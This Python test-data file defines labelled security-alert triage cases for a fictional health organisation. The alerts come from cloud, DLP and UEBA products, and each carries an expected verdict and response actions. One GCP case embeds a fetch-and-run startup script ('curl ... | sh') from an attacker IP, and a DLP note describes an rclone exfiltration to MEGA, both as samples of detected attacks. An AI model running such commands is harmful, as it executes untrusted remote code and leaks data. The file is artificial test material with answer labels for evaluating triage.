"""Breadth split, cloud and data: Amazon Macie, Amazon Inspector, AWS IAM Access Analyzer (EventBridge shapes),
Oracle Cloud Guard problem events, Google Cloud Audit Logs forwarded from Pub/Sub (some as bare log entries from a
home-made forwarder), Cyberhaven and Digital Guardian DLP, Box Shield, Securonix UEBA and Exabeam notable sessions.

Voices: the products' own finding text, analysts' notes appended by the integrations, terse forwarders.
"""

from __future__ import annotations

from typing import Any

from tests.data.triage.breadth_common import BEN, BRUTE, EXFIL, GENERIC, MAL, MALWARE, SUS, UNK, Expected, alert
from tests.data.triage.labels import Case

ACCOUNT = "418297603551"


def macie(
    n: int, finding_type: str, bucket: str, detail: dict[str, Any], expected: Expected, score: int, text: str
) -> Case:
    word = {3: "High", 2: "Medium"}.get(score, "Low")
    raw = {
        "version": "0",
        "detail-type": "Macie Finding",
        "source": "aws.macie",
        "account": ACCOUNT,
        "region": "eu-north-1",
        "detail": {
            "schemaVersion": "1.0",
            "id": f"6f0d2c91a47b{n:04d}e8b3c5d7f9a1b2c3",
            "type": finding_type,
            "category": "POLICY" if finding_type.startswith("Policy") else "CLASSIFICATION",
            "severity": {"score": score, "description": word},
            "resourcesAffected": {"s3Bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"}},
            **detail,
        },
    }
    return alert(
        f"br-macie-{n:03d}", "Amazon Macie", expected, f"Macie {finding_type} in {bucket}", text, word, "macie", raw
    )


def inspector(
    n: int, cve: str, package: str, resource: dict[str, Any], expected: Expected, score: float, text: str, **extra: Any
) -> Case:
    severity = "critical" if score >= 9 else "high" if score >= 7 else "medium"
    raw = {
        "detail-type": "Inspector2 Finding",
        "source": "aws.inspector2",
        "detail": {
            "awsAccountId": ACCOUNT,
            "findingArn": f"arn:aws:inspector2:eu-west-1:{ACCOUNT}:finding/3c9e{n:04d}a7b1d",
            "type": "PACKAGE_VULNERABILITY",
            "title": f"{cve} - {package}",
            "severity": severity.upper(),
            "inspectorScore": score,
            "status": "ACTIVE",
            "packageVulnerabilityDetails": {"vulnerabilityId": cve, "source": "NVD"},
            "resources": [resource],
            **extra,
        },
    }
    return alert(
        f"br-inspector-{n:03d}", "Amazon Inspector", expected, f"{cve} - {package}", text, severity, "inspector", raw
    )


def access_analyzer(
    n: int, resource_type: str, resource: str, principal: str, actions: list[str], expected: Expected, text: str
) -> Case:
    raw = {
        "detail-type": "Access Analyzer Finding",
        "source": "aws.access-analyzer",
        "detail": {
            "version": "1.0",
            "id": f"a1b7c0de-42f6-4e9b-8d3a-5f0c7e21{n:04d}",
            "status": "ACTIVE",
            "resourceType": resource_type,
            "resource": resource,
            "accountId": ACCOUNT,
            "principal": {"AWS": principal},
            "action": actions,
            "isPublic": principal == "*",
            "isDeleted": False,
        },
    }
    title = f"IAM Access Analyzer: external access to {resource.rsplit(':', 1)[-1]}"
    return alert(f"br-iaa-{n:03d}", "AWS IAM Access Analyzer", expected, title, text, "medium", "access_analyzer", raw)


def cloud_guard(
    n: int,
    problem: str,
    detector: str,
    risk: str,
    resource: str,
    details: dict[str, Any],
    expected: Expected,
    titled: bool = False,
) -> Case:
    raw = {
        "eventType": "com.oraclecloud.cloudguard.problemdetected",
        "cloudEventsVersion": "0.1",
        "eventTypeVersion": "2.0",
        "source": "CloudGuardResponderEngine",
        "eventTime": f"2025-10-{n + 10:02d}T03:{n * 7 % 60:02d}:11Z",
        "data": {
            "compartmentName": "twh-clinical-prod",
            "resourceName": resource,
            "additionalDetails": {
                "problemName": problem,
                "riskLevel": risk,
                "detectorId": detector,
                "status": "OPEN",
                "region": "ap-osaka-1",
                **details,
            },
        },
    }
    severity = {"CRITICAL": "critical", "HIGH": "high", "MEDIUM": "medium"}.get(risk, "low")
    title = f"Cloud Guard problem {problem} on {resource}" if titled else None
    text = f"{details['problemDescription']} {details.get('reason', '')}".strip() if titled else None
    return alert(
        f"br-cloudguard-{n:03d}", "Oracle Cloud Guard", expected, title, text, severity, "oci_cloud_guard", raw
    )


def gcp_audit(
    n: int,
    principal: str,
    caller_ip: str,
    method: str,
    resource: str,
    extra: dict[str, Any],
    expected: Expected,
    text: str | None = None,
) -> Case:
    entry = {
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": principal},
            "requestMetadata": {"callerIp": caller_ip},
            "serviceName": {"v1": "compute", "google": "iam"}.get(method.split(".")[0], method.split(".")[0])
            + ".googleapis.com",
            "methodName": method,
            "resourceName": resource,
            **extra,
        },
        "insertId": f"1x7k{n:03d}e2bq9",
        "logName": "projects/twh-clinical-data/logs/cloudaudit.googleapis.com%2Fdata_access",
        "timestamp": f"2025-11-0{n}T0{n}:14:52.118Z",
    }
    raw = {
        "subscription": "projects/twh-secops/subscriptions/audit-to-incidents",
        "message": {"messageId": f"1290348{n:04d}", "publishTime": entry["timestamp"]},
        "logEntry": entry,
    }
    title = f"GCP audit: {method} by {principal}" if text else None
    return alert(
        f"br-gcpaudit-{n:03d}", "Google Cloud Audit Logs via Pub/Sub", expected, title, text, "high", "gcp", raw
    )


def cyberhaven(
    n: int, policy: str, user: str, dataset: str, destination: dict[str, str], expected: Expected, **extra: Any
) -> Case:
    raw = {
        "incident_id": f"chv-{88100 + n}",
        "policy": {"name": policy, "severity": extra.pop("risk", "high")},
        "user": {"email": f"{user}@tidewater-health.org", "department": extra.pop("dept", "")},
        "dataset": {"name": dataset},
        "destination": destination,
        "response": extra.pop("response", "monitor"),
        **extra,
    }
    severity = raw["policy"]["severity"]
    title = f"Cyberhaven: {policy} ({user})"
    description = f"Data from {dataset} reached {destination.get('domain', destination.get('kind'))}."
    return alert(
        f"br-cyberhaven-{n:03d}",
        "Cyberhaven",
        expected,
        title,
        description,
        severity,
        "cyberhaven",
        raw,
        kind="data_exfiltration",
    )


def digital_guardian(
    n: int, rule: str, machine: str, user: str, fields: dict[str, Any], expected: Expected, text: str, severity: str
) -> Case:
    raw = {
        "dg_alert": {"dg_name": rule, "dg_alert_id": f"DG-{5230000 + n}"},
        "dg_machine_name": machine,
        "dg_user": f"TWH\\{user}",
        "dg_time": f"2025-09-{n + 14:02d} 22:{n * 9 % 60:02d}:03",
        **fields,
    }
    return alert(
        f"br-dg-{n:03d}",
        "Digital Guardian",
        expected,
        f"[DG ARC] {rule}",
        text,
        severity,
        "digital_guardian",
        raw,
        systems=[machine],
    )


def box_shield(
    n: int, category: str, user: str, summary: dict[str, Any], expected: Expected, priority: str, text: str
) -> Case:
    raw = {
        "type": "event",
        "event_type": "SHIELD_ALERT",
        "created_by": {"type": "user", "login": f"{user}@tidewater-health.org"},
        "additional_details": {
            "shield_alert": {
                "alert_id": 77100 + n,
                "rule_category": category,
                "priority": priority,
                "risk_score": {"high": 88, "medium": 61}.get(priority, 30),
                "alert_summary": summary,
            }
        },
    }
    return alert(f"br-boxshield-{n:03d}", "Box Shield", expected, f"Box Shield: {category}", text, priority, "box", raw)


def securonix(
    n: int, policy: str, violator: str, risk: float, reasons: list[str], expected: Expected, severity: str
) -> Case:
    raw = {
        "incidentId": str(31880 + n),
        "policyname": policy,
        "violatorText": violator,
        "entity": "Users",
        "riskscore": risk,
        "reason": reasons,
        "tenantname": "tidewater",
    }
    text = f"Securonix policy '{policy}' raised for {violator} (risk {risk}). " + " ".join(reasons)
    return alert(
        f"br-securonix-{n:03d}", "Securonix UEBA", expected, f"{policy} - {violator}", text, severity, "snypr", raw
    )


def exabeam(
    n: int, user: str, score: int, rules: list[tuple[str, str]], expected: Expected, text: str, severity: str
) -> Case:
    raw = {
        "sessionId": f"{user}-20251104{n:02d}0000",
        "user": user,
        "riskScore": score,
        "isNotable": score >= 90,
        "triggeredRules": [{"ruleId": rule_id, "ruleName": name} for rule_id, name in rules],
    }
    return alert(
        f"br-exabeam-{n:03d}",
        "Exabeam",
        expected,
        f"Notable user session: {user} ({score})",
        text,
        severity,
        "exabeam",
        raw,
        kind="security",
    )


AWS = [
    macie(
        1,
        "SensitiveData:S3Object/Personal",
        "twh-nor-radiology-share",
        {
            "resourcesAffected": {
                "s3Bucket": {"name": "twh-nor-radiology-share", "publicAccess": {"effectivePermission": "PUBLIC"}},
                "s3Object": {"key": "referrals/2025/q3/outpatient_referrals.csv", "size": 48211907},
            },
            "classificationDetails": {
                "result": {
                    "sensitiveData": [
                        {
                            "category": "PERSONAL_INFORMATION",
                            "totalCount": 61240,
                            "detections": [
                                {"type": "NAME", "count": 20412},
                                {"type": "DATE_OF_BIRTH", "count": 20412},
                                {"type": "USA_HEALTH_INSURANCE_CLAIM_NUMBER", "count": 20416},
                            ],
                        }
                    ]
                }
            },
        },
        (MAL, EXFIL, ["notify"]),
        3,
        "Referral lists with names, dates of birth and diagnosis codes sit in a bucket anyone can read. Server "
        "access logs show the whole referrals/ prefix fetched from 5.188.62.214 and 91.92.109.37 since Tuesday; "
        "neither belongs to us or to the referral partners.",
    ),
    macie(
        2,
        "SensitiveData:S3Object/Multiple",
        "twh-lis-hl7-archive",
        {
            "resourcesAffected": {
                "s3Object": {"key": "oru/2025-10-30/batch_0412.hl7", "serverSideEncryption": "aws:kms"}
            }
        },
        (BEN, EXFIL, []),
        2,
        "Lab result messages with patient identifiers found in the LIS HL7 archive. The bucket is private, KMS "
        "encrypted and is the designated store for these messages (data classification register entry DC-114).",
    ),
    macie(
        3,
        "Policy:IAMUser/S3BucketSharedExternally",
        "twh-pharmacy-dispensing-exports",
        {"policyDetails": {"action": {"apiCallDetails": {"api": "PutBucketPolicy"}}, "actor": "c.ferreira"}},
        (SUS, EXFIL, ["notify"]),
        2,
        "Bucket policy now grants read to AWS account 590183377264. It is not in the vendor register; the "
        "pharmacy integration lead who changed it is on leave until Monday and nobody else knows the account.",
    ),
    macie(
        4,
        "SensitiveData:S3Object/Credentials",
        "twh-dev-scratch",
        {"resourcesAffected": {"s3Object": {"key": "mig/old_keys_backup.csv"}}},
        (SUS, GENERIC, ["reset_credentials"]),
        3,
        "AWS_CREDENTIALS x4 in a csv. Bucket private, no external reads in access logs, but two of the keys are "
        "still active on svc-carechart-etl.",
    ),
    inspector(
        1,
        "CVE-2024-45337",
        "golang.org/x/crypto",
        {"type": "AWS_ECR_CONTAINER_IMAGE", "id": "twh-lis-adapter:1.8.2", "details": {"lastInUseAt": None}},
        (BEN, GENERIC, []),
        9.1,
        "Old tag of the LIS adapter image in ECR; no task or pod has pulled it since March (current release 2.3.0 "
        "is not affected).",
        exploitAvailable="NO",
        fixAvailable="YES",
    ),
    inspector(
        2,
        "CVE-2023-50164",
        "org.apache.struts:struts2-core",
        {"type": "AWS_ECS_TASK", "id": "twh-portal-docs-upload", "tags": {"exposure": "internet"}},
        (SUS, GENERIC, []),
        9.8,
        "Struts file-upload path traversal in the image behind portal.tidewater-health.org/documents/upload. "
        "Public exploit exists and the service takes uploads from the internet. Nobody has checked the access "
        "logs for exploitation attempts yet; patching is scheduled for tonight.",
        exploitAvailable="YES",
    ),
    inspector(
        3,
        "CVE-2024-6387",
        "openssh-server",
        {"type": "AWS_EC2_INSTANCE", "id": "i-0a93c4e1f77b20d58", "tags": {"Name": "TWH-GOT-APP07"}},
        (BEN, GENERIC, []),
        5.9,
        "regreSSHion on an app server in a private subnet; network reachability: no path from an internet gateway, "
        "SSH only from the bastion security group.",
        exploitAvailable="YES",
    ),
    access_analyzer(
        1,
        "AWS::IAM::Role",
        f"arn:aws:iam::{ACCOUNT}:role/twh-prod-breakglass",
        "arn:aws:iam::731904557218:root",
        ["sts:AssumeRole"],
        (MAL, GENERIC, ["reset_credentials", "block_ip"]),
        "The break-glass admin role now trusts an outside AWS account. The trust policy was rewritten at 03:12 "
        "with a.lindqvist's access key from 149.28.133.70 (a Vultr VPS); Anna says on the phone she was asleep "
        "and has never seen that account.",
    ),
    access_analyzer(
        2,
        "AWS::S3::Bucket",
        "arn:aws:s3:::twh-research-sepsis-deid",
        "arn:aws:iam::262014448907:root",
        ["s3:GetObject", "s3:ListBucket"],
        (BEN, EXFIL, []),
        "Read access for the university's research account, matching data use agreement DUA-2025-031 signed by "
        "the ethics board; the bucket holds the de-identified sepsis cohort prepared by the research office.",
    ),
    access_analyzer(
        3,
        "AWS::IAM::Role",
        f"arn:aws:iam::{ACCOUNT}:role/twh-pacs-vendor-support",
        "arn:aws:iam::874310556129:root",
        ["sts:AssumeRole"],
        (BEN, GENERIC, []),
        "PACS vendor's support account, third-party register TPR-0088, ExternalId condition present. Expected.",
    ),
]


OCI_GCP = [
    cloud_guard(
        1,
        "SUSPICIOUS_PROCESS",
        "IAAS_INSTANCE_SECURITY_DETECTOR",
        "CRITICAL",
        "twh-osa-labanalytics-02",
        {
            "problemDescription": "Process /var/tmp/.ICE-unix/kdevtmpfsi at 398% CPU holding connections to "
            "45.9.148.117:3333 and 45.9.148.125:3333; binary sha256 "
            "9f3d85e2c1b04a6a7e8c2d51f0b3e47a6c9d1e2f3a4b5c6d7e8f90a1b2c3d4e5.",
            "labels": "InstanceSecurity, Process",
        },
        (MAL, MALWARE, ["isolate_host"]),
    ),
    cloud_guard(
        2,
        "BUCKET_IS_PUBLIC",
        "IAAS_CONFIGURATION_DETECTOR",
        "CRITICAL",
        "twh-osa-patient-leaflets",
        {
            "problemDescription": "Object Storage bucket is public.",
            "reason": "Bucket serves the printable patient information leaflets linked from the public website; "
            "public read is by design (web team ticket WEB-2290).",
        },
        (BEN, GENERIC, []),
        titled=True,
    ),
    cloud_guard(
        3,
        "SUSPICIOUS_IP_ACTIVITY",
        "IAAS_ACTIVITY_DETECTOR",
        "HIGH",
        "ocid1.user.oc1..aaaaaaaa4kq2 (m.wisniewska)",
        {
            "problemDescription": "API signing key of m.wisniewska called ListBuckets and GetObject from "
            "37.120.211.94, an address listed as a commercial VPN exit.",
            "reason": "Developer in Gdańsk; she uses a personal VPN on hotel Wi-Fi at times but has not confirmed "
            "this session. The objects read were test fixtures only.",
        },
        (SUS, GENERIC, ["reset_credentials"]),
        titled=True,
    ),
    cloud_guard(
        4,
        "PAR_CREATED_ON_BUCKET",
        "IAAS_ACTIVITY_DETECTOR",
        "HIGH",
        "twh-osa-lab-results-export",
        {
            "problemDescription": "Pre-authenticated request with ObjectRead on the whole bucket, expiry 2026-10-31, "
            "created by k.nowak from 194.26.29.113.",
            "reason": "38 GB read through the PAR from 194.26.29.113 and 80.66.76.130 overnight; k.nowak works "
            "day shifts in Gdańsk and did not create it.",
        },
        (MAL, EXFIL, ["disable_user", "block_ip"]),
    ),
    gcp_audit(
        1,
        "pacs-sync@twh-clinical-data.iam.gserviceaccount.com",
        "103.214.68.29",
        "v1.compute.instances.insert",
        "projects/twh-clinical-data/zones/asia-east1-b/instances/gke-node-pool-x83",
        {
            "request": {
                "machineType": "n2-highcpu-32",
                "count": 24,
                "metadata": {"startup-script": "curl -s http://103.214.68.29/x.sh | sh"},
            }
        },
        (MAL, MALWARE, ["isolate_host", "reset_credentials"]),
        "24 n2-highcpu-32 VMs created in asia-east1 (a region we do not use) by the PACS sync service account, "
        "from an IP outside GCP and our ranges; startup script pulls a shell script, and CPU on all of them sits "
        "at 100% with egress to a mining pool on port 14444.",
    ),
    gcp_audit(
        2,
        "carechart-reporting@twh-clinical-data.iam.gserviceaccount.com",
        "162.247.74.201",
        "storage.objects.get",
        "projects/_/buckets/twh-bgo-carechart-backups/objects/export/2025-11-01/patients_part_0001.avro",
        {
            "requestMetadata": {"callerIp": "162.247.74.201", "callerSuppliedUserAgent": "rclone/v1.66.0"},
            "numResponseItems": 14022,
            "authorizationInfo": [{"permission": "storage.objects.get", "granted": True}],
        },
        (MAL, EXFIL, ["reset_credentials", "block_ip"]),
    ),
    gcp_audit(
        3,
        "project-418297603551@storage-transfer-service.iam.gserviceaccount.com",
        "private",
        "storagetransfer.transferJobs.run",
        "transferJobs/pacs-archive-nor-to-got",
        {"request": {"bytesCopied": "6.1 TB", "change": "CHG-20914 PACS archive consolidation"}},
        (BEN, EXFIL, []),
        "Transfer job copying the Norfolk PACS archive to the Gothenburg archive bucket, run under the approved "
        "consolidation change CHG-20914; both buckets in our organisation.",
    ),
    gcp_audit(
        4,
        "o.haugen@tidewater-health.org",
        "84.212.51.17",
        "google.iam.admin.v1.CreateServiceAccountKey",
        "projects/twh-clinical-data/serviceAccounts/lis-interface@twh-clinical-data.iam.gserviceaccount.com",
        {"request": {"private_key_type": "TYPE_GOOGLE_CREDENTIALS_FILE"}},
        (SUS, GENERIC, []),
        "User-managed key made for the LIS interface account at 23:41 from a home broadband address in Bergen. "
        "Org policy forbids downloadable keys (exception list empty); the key has not been used yet and Ola has "
        "not answered.",
    ),
    alert(
        "br-gcpaudit-005",
        "Google Cloud Audit Logs via Pub/Sub",
        (UNK, GENERIC, []),
        None,
        None,
        "medium",
        "gcp",
        {
            "subscription": "projects/twh-secops/subscriptions/audit-to-incidents",
            "message": {"data": "", "attributes": {}, "messageId": "12903480917"},
        },
    ),
]


DLP = [
    cyberhaven(
        1,
        "Patient data to personal cloud storage",
        "r.okonkwo",
        "CareChart ward census export",
        {"kind": "website", "domain": "drive.google.com", "account": "rita.okonkwo77@gmail.com"},
        (MAL, EXFIL, ["disable_user", "notify"]),
        dept="Nursing - Cardiology",
        lineage=["CareChart report 'Census by ward'", "Downloads/census_oct.xlsx", "Desktop/keep/ward.zip"],
        note="HR: resignation handed in 29 Oct, joining a private clinic; 6 such uploads since then.",
    ),
    cyberhaven(
        2,
        "Claims data leaving the organisation",
        "l.yamamoto",
        "Monthly claims batch",
        {"kind": "website", "domain": "provider.kaiho-claims.jp", "category": "Sanctioned partner"},
        (BEN, EXFIL, []),
        risk="medium",
        dept="Finance - Osaka",
        note="Recurring first-business-day upload to the insurer's provider portal, on the approved-destinations "
        "list since 2023; same size as previous months.",
    ),
    cyberhaven(
        3,
        "Imaging exports to file-sharing services",
        "s.van.dijk",
        "PACS DICOM export",
        {"kind": "website", "domain": "wetransfer.com"},
        (SUS, EXFIL, ["notify"]),
        dept="Radiology - Rotterdam",
        lineage=["PACS export study 1.2.840.113619.2.55.3", "D:/tmp/holiday_photos.zip"],
        response="warn",
        user_justification="second opinion for a colleague at Erasmus",
        note="Archive renamed before upload; the referral to the other hospital is not in CareChart.",
    ),
    cyberhaven(
        4,
        "Sensitive data pasted into generative AI",
        "p.andersson",
        "CareChart discharge summaries",
        {"kind": "website", "domain": "chatgpt.com", "category": "Generative AI"},
        (SUS, EXFIL, ["notify"]),
        risk="medium",
        dept="Internal medicine - Gothenburg",
        content="~300 lines copied from 12 discharge letters incl. names and personnummer",
        response="warn",
        user_justification="summarising for handover",
    ),
    digital_guardian(
        1,
        "Bulk copy to removable media - clinical shares",
        "TWH-NOR-WS0387",
        "d.mbeki.ext",
        {
            "dg_operation": "File Write",
            "dg_dst_dev_type": "Removable",
            "dg_src_file_path": "\\\\TWH-NOR-FS01\\Pharmacy\\Formulary\\",
            "dg_file_count": 11402,
            "dg_bytes": 7340210044,
        },
        (MAL, EXFIL, ["disable_user", "notify"]),
        "Contractor whose engagement ended yesterday (account not yet removed) copied 11,402 files from the "
        "pharmacy share to a SanDisk USB stick between 22:04 and 22:51.",
        "high",
    ),
    digital_guardian(
        2,
        "Removable media write > 5 GB",
        "TWH-OSA-SRV11",
        "svc_veeam",
        {"dg_operation": "File Write", "dg_dst_dev_type": "Removable", "dg_proc_name": "VeeamAgent.exe"},
        (BEN, EXFIL, []),
        "Weekly offline backup of the Osaka clinic file server to the rotated RDX cartridge, as every Friday.",
        "medium",
    ),
    digital_guardian(
        3,
        "Print volume anomaly - PHI",
        "TWH-BGO-WS0614",
        "h.solberg",
        {"dg_operation": "Print", "dg_printer": "\\\\TWH-BGO-PRN\\Ward4-MFP", "dg_pages": 612},
        (SUS, EXFIL, ["notify"]),
        "Ward clerk printed 612 pages of patient summaries in one hour, ten times her usual; printer is on the "
        "ward, so this may be the bed-board reprint after the downtime, not confirmed yet.",
        "medium",
    ),
    digital_guardian(
        4,
        "Cloud sync tool network transfer",
        "TWH-RTM-FS02",
        "svc_scan",
        {
            "dg_operation": "Network Transfer Upload",
            "dg_proc_name": "rclone.exe",
            "dg_proc_md5": "8c1f4b2e7d93a06f5e21c48b9a7d3e50",
            "dg_dst_host": "gfs262n305.userstorage.mega.co.nz",
            "dg_dst_ip": "89.44.169.135",
            "dg_bytes": 92811304550,
        },
        (MAL, EXFIL, ["isolate_host", "block_ip"]),
        "rclone copy \\\\TWH-RTM-FS02\\HR → mega:bk --transfers 16, started from a scanner service account that "
        "never runs interactive tools. 92 GB out so far.",
        "critical",
    ),
    box_shield(
        1,
        "Anomalous Download",
        "j.kowalczyk",
        {
            "download_delta_size": "14.2 GB",
            "download_delta_percent": 4100,
            "download_ips": [{"ip": "102.89.34.17"}],
            "folder": "Oncology/Referrals",
            "files": 9812,
        },
        (MAL, EXFIL, ["disable_user", "block_ip"]),
        "high",
        "9,812 files pulled from Oncology/Referrals in 38 minutes from a Lagos address on a new device; Jakub was "
        "on shift in Gdańsk at the time and his desk PC shows no Box activity.",
    ),
    box_shield(
        2,
        "Anomalous Download",
        "svc-migration",
        {"download_delta_size": "2.3 TB", "download_ips": [{"ip": "10.40.8.21"}], "change": "CHG-20877"},
        (BEN, EXFIL, []),
        "medium",
        "Migration account moving the Quality department's folders to SharePoint under CHG-20877, from the "
        "migration server in the Bergen data centre.",
    ),
    box_shield(
        3,
        "Malicious Content",
        "e.nakamura",
        {
            "file": "Invoice_Oct_0932.xlsm",
            "sha1": "3f8a6c1d09e4b72a5c6d8e9f0a1b2c3d4e5f6a7b",
            "verdict": "malicious macro",
            "opened_on": "TWH-RTM-WS0211",
        },
        (MAL, MALWARE, ["isolate_host"]),
        "high",
        "Shared supplier folder got an xlsm flagged as a macro dropper; it synced to three desktops and was opened "
        "on TWH-RTM-WS0211, which then started rundll32 talking to 185.117.75.34.",
    ),
    box_shield(
        4,
        "Suspicious Sessions",
        "a.moreau",
        {"sessions": [{"ip": "10.12.4.77", "city": "Bergen"}, {"ip": "13.36.201.88", "city": "Paris (AWS)"}]},
        (SUS, BRUTE, ["reset_credentials"]),
        "medium",
        "Two live sessions 12 minutes apart, one on the Bergen LAN and one from an AWS Paris address. Could be "
        "her phone's privacy relay; could be a stolen session token. She has not replied.",
    ),
]


UEBA = [
    securonix(
        1,
        "EHR - Excessive access to VIP patient records",
        "t.halvorsen",
        91.4,
        [
            "Opened the chart of a footballer admitted on Sunday 37 times, and 212 charts of his relatives' ward.",
            "No care relationship with any of them; registration clerk in outpatients.",
        ],
        (MAL, EXFIL, ["disable_user", "notify"]),
        "high",
    ),
    securonix(
        2,
        "EHR - Record access spike vs peer group",
        "dr.ng.locum",
        64.0,
        [
            "Locum physician covering the Norfolk emergency department during Saturday's major-incident call-out "
            "(MI-2025-07); all charts opened were ED arrivals he treated."
        ],
        (BEN, EXFIL, []),
        "medium",
    ),
    securonix(
        3,
        "Data egress to rare domain",
        "b.rasmussen",
        72.5,
        [
            "2.1 GB uploaded from TWH-GOT-RAD03 to teleread-nordic.com at 02:10.",
            "The night radiologist uses an outsourced reading service, but this domain is not the contracted one "
            "and was registered in August.",
        ],
        (SUS, EXFIL, ["notify"]),
        "high",
    ),
    alert(
        "br-securonix-004",
        "Securonix UEBA",
        (UNK, GENERIC, []),
        "Securonix incident 318842",
        "Incident 318842 opened in SNYPR. See console.",
        "medium",
        "snypr",
        {"incidentId": "318842", "incidentStatus": "OPEN"},
    ),
    securonix(
        5,
        "Abnormal outbound data volume",
        "svc_commvault",
        58.2,
        [
            "4.2 TB from TWH-NOR-BKP01 to 10.80.2.15 (Rotterdam DR vault) between 01:00 and 05:30, the nightly "
            "CareChart database copy; volume up after the new imaging tables were added to the job."
        ],
        (BEN, EXFIL, []),
        "low",
    ),
    exabeam(
        1,
        "g.petrov",
        214,
        [
            ("DB-HR-F", "First access to HR database for user"),
            ("A-NEW-LOCAL", "Account created on asset"),
            ("DL-UH-A", "Abnormal amount of data uploaded to personal web storage"),
        ],
        (MAL, EXFIL, ["disable_user", "notify"]),
        "Infrastructure admin on his notice period: logged into the HR payroll SQL server he has never touched, "
        "created local account 'sqlbk', dumped the staff table (incl. bank details) to a 7z and pushed it to "
        "onedrive.live.com.",
        "critical",
    ),
    exabeam(
        2,
        "svc-pacs-s3sync",
        168,
        [
            ("AWS-KEY-CNTRY-F", "First AWS API call from country for access key"),
            ("AWS-TOR", "AWS API call from Tor exit node"),
        ],
        (MAL, GENERIC, ["reset_credentials", "block_ip"]),
        "AKIAWB3Q7PACSSYNC9XK, normally only seen from 10.20.0.0/16 via the NAT gateway, called ListBuckets, "
        "GetSecretValue and CreateUser from 185.220.101.47.",
        "high",
    ),
    exabeam(
        3,
        "pt-redsentry01",
        133,
        [("NET-SCAN-F", "First network scan by user"), ("PW-SPRAY", "Authentication failures across many accounts")],
        (BEN, GENERIC, []),
        "Account of the external penetration testers (engagement letter SEC-PT-2025-04, window 3-7 Nov); "
        "activity from their jump host only.",
        "medium",
    ),
    exabeam(
        4,
        "m.kristiansen",
        96,
        [("EM-PERS-A", "Abnormal number of attachments to personal email domain")],
        (SUS, EXFIL, ["notify"]),
        "14 attachments sent to a gmail address with her name in it. Most look like her own payslips and "
        "training certificates; one is 'ward5_roster_patient_initials.xlsx'.",
        "medium",
    ),
]


CASES: list[Case] = [*AWS, *OCI_GCP, *DLP, *UEBA]
